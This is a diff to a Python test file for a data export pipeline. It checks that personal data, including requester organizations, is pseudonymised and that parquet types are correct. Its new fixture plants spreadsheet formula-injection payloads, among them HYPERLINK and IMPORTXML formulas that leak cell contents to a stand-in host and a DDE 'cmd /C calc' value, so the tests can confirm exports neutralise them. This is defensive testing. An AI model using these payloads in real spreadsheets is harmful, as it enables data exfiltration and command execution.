@@ -10,20 +10,23 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from pipeline import export, stats
+from pipeline import export
+from pipeline.book import read_book
 from pipeline.errors import ConfigError, UsageError
 
 FIXTURES = Path(__file__).resolve().parent / "fixtures"
 KEY = b"kunci-uji-yang-cukup-panjang-2026"
 PII = ["5371012345670001", "5371020101800002", "081234567890", "085239001122", "081333444555",
        "maria@example.org", "yohanes@lsm.example.org", "kornelis@example.net", "El Tari",
-       "Maria Goreti Bria", "maria goreti", "Yohanes Seran", "Kornelis Bani", "maria.yaml"]
-PERSONAL = ("phone", "email", "identity_number", "address", "source_file", "requester_name")
+       "Maria Goreti Bria", "maria goreti", "Yohanes Seran", "Kornelis Bani", "maria.yaml",
+       "Perkumpulan Pemilu Bersih NTT", "Universitas Nusa Cendana"]
+PERSONAL = ("phone", "email", "identity_number", "address", "source_file", "requester_name",
+            "requester_organization")
 
 
 @pytest.fixture(scope="module")
 def book() -> pd.DataFrame:
-    return stats.load_book(FIXTURES / "records_small")
+    return read_book(FIXTURES / "records_small")
 
 
 def read_back(path: Path) -> pd.DataFrame:
@@ -43,7 +46,10 @@ def test_no_personal_data_in_any_format(book, tmp_path, fmt):
     frame = read_back(path)
     assert len(frame) == len(book)
     assert not set(PERSONAL) & set(frame.columns)
-    assert "requester_organization" in frame.columns  # organizations are not personal data
+    # An organization can name its member (issue 12 item 8): pseudonymised like the name.
+    pseudonyms = frame["organization_pseudonym"].replace("", None).dropna()
+    assert len(pseudonyms) == book["requester_organization"].notna().sum() == 7
+    assert all(re.fullmatch(r"O-[0-9A-F]{8}", p) for p in pseudonyms)
     text = frame.astype(str).to_csv(index=False).lower()
     for value in PII:
         assert value.lower() not in text, value
@@ -119,6 +125,23 @@ def test_parquet_keeps_types(book, tmp_path):
     assert str(frame["on_time"].dtype) == "boolean"
 
 
+def test_parquet_export_has_the_types_of_the_register_book(book, tmp_path):
+    import pyarrow.parquet as pq
+
+    from pipeline.book import ARROW_TYPES
+    from pipeline.schema import BOOK_COLUMNS
+
+    schema = pq.read_schema(export.export_book(book, tmp_path, "parquet", key=KEY))
+    shared = [f for f in schema if f.name in BOOK_COLUMNS]
+    assert len(shared) >= 25
+    for field in shared:
+        assert field.type == ARROW_TYPES[BOOK_COLUMNS[field.name].kind], field.name
+    assert str(schema.field("received_at").type) == "timestamp[us, tz=+08:00]"
+    assert str(schema.field("due_date").type) == "date32[day]"
+    assert str(schema.field("service").type).startswith("dictionary<values=string")
+    assert schema.field("requester_pseudonym").type == "string"
+
+
 def test_too_many_rows_for_excel(book, tmp_path, monkeypatch):
     monkeypatch.setattr(export, "XLSX_MAX_ROWS", 5)
     with pytest.raises(UsageError, match="parquet or csv"):
@@ -164,3 +187,58 @@ def test_the_key_from_config_or_environment(tmp_path, monkeypatch):
 def test_pseudonym_ignores_case_accents_and_spacing():
     assert export.pseudonym("Maria Goreti Bria", KEY) == export.pseudonym("  MARIA  goreti bría ", KEY)
     assert export.pseudonym("", KEY) is None and export.pseudonym(None, KEY) is None
+
+
+# --- formula injection (issue 12 item 8; OWASP "CSV Injection") --------------------------------
+
+HOSTILE = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
+
+
+@pytest.fixture(scope="module")
+def hostile_book(book) -> pd.DataFrame:
+    """The book with text a spreadsheet would run, in every kept text column."""
+    evil = book.copy()
+    evil["subject"] = evil["subject"].astype("string")
+    evil.loc[0, "subject"] = HOSTILE
+    evil.loc[1, "subject"] = "+1+cmd|' /C calc'!A0"
+    evil.loc[2, "subject"] = "-2+3"
+    evil.loc[3, "purpose"] = "@SUM(1+1)"
+    evil.loc[4, "purpose"] = "\t=1+1"
+    evil.loc[5, "purpose"] = "\r=1+1"
+    evil.loc[6, "letter_no"] = "=1+1"
+    evil.loc[1, "requester_organization"] = "=IMPORTXML(CONCAT(\"http://x.example/?\",A2),\"//a\")"
+    return evil
+
+
+def test_xlsx_text_cells_are_strings_never_formulas(hostile_book, tmp_path):
+    path = export.export_book(hostile_book, tmp_path, "xlsx", key=KEY)
+    wb = openpyxl.load_workbook(path)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = {c.value for c in cells}
+    # Kept as the text it is (xlsx cells are typed: no quote needed).
+    assert HOSTILE in values and "-2+3" in values and "@SUM(1+1)" in values and "=1+1" in values
+    # The organization is pseudonymised, not written at all.
+    assert not any("IMPORTXML" in str(v) for v in values)
+
+
+def test_csv_export_makes_formula_cells_inert(hostile_book, tmp_path):
+    path = export.export_book(hostile_book, tmp_path, "csv", key=KEY)
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
+    assert "'" + HOSTILE in cells and "'-2+3" in cells and "'\t=1+1" in cells
+    assert not any("IMPORTXML" in c for c in cells)
+
+
+@pytest.mark.slow
+def test_libreoffice_runs_no_formula_of_the_csv_export(hostile_book, tmp_path):
+    from tests.test_book import formula_cells, soffice_to_xlsx
+
+    path = export.export_book(hostile_book, tmp_path, "csv", key=KEY)
+    xlsx = soffice_to_xlsx(path, tmp_path)
+    assert formula_cells(xlsx) == []
+    ws = openpyxl.load_workbook(xlsx).active
+    assert "'" + HOSTILE in [c.value for row in ws.iter_rows() for c in row]
